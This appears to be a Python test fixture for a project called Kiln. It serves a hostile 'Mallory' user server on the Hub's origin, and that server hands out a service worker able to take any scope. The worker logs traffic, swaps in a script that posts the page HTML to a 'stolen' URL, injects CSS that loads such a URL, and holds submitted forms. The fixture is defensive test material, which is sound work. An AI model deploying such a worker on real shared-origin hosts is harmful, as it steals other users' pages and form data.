"""A hostile user's server on a Hub's host: it has Kiln's origin, and attacks other users.

with Mallory() as mallory:
    hub = f"c.Proxy.extra_routes = {{'/user/mallory/': {mallory.url!r}}}"

`/user/mallory/` is an empty page, `/user/mallory/worker.js?kind=…` a service worker that may have any scope.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Self

WORKER = """
const kind = new URL(location).searchParams.get("kind");
const seen = [];
const STEAL = "fetch('stolen?' + encodeURIComponent(document.documentElement.outerHTML))";
async function keep(answer) {
  seen.push(`${answer.status} ${await answer.clone().text()}`);
  return answer;
}
async function preloaded(event) { return keep(await event.preloadResponse || await fetch(event.request)); }
async function held(request) {
  seen.push(await request.clone().text());
  return new Response("held");
}
function made(text, type) { return new Response(text, { headers: { "Content-Type": type } }); }

addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil((async () => {
  if (kind === "preload") await registration.navigationPreload.enable();
  await clients.claim();
})()));
addEventListener("message", (event) => event.ports[0].postMessage(seen));
addEventListener("fetch", (event) => {
  const { request } = event;
  seen.push(`${request.mode} ${request.destination} ${request.url}`);
  const opens = request.mode === "navigate";
  if (request.url.includes("stolen")) event.respondWith(new Response(""));
  else if (kind === "fetch" && opens) event.respondWith(fetch(request).then(keep));
  else if (kind === "again" && opens) event.respondWith(fetch(request.url).then(keep));
  else if (kind === "preload" && opens) event.respondWith(preloaded(event));
  else if (kind === "script" && request.destination === "script") event.respondWith(made(STEAL, "text/javascript"));
  else if (kind === "style" && request.destination === "style")
    event.respondWith(made("main { background: url(/services/binder/stolen) }", "text/css"));
  else if (kind === "form" && opens && request.method === "POST") event.respondWith(held(request));
});
"""


class Mallory:
    """Serves until it is left."""

    def __init__(self) -> None:
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        worker = "/worker.js" in self.path
        body = (WORKER if worker else "<!doctype html><title>Mallory</title><body></body>").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if worker else "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Service-Worker-Allowed", "/")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass
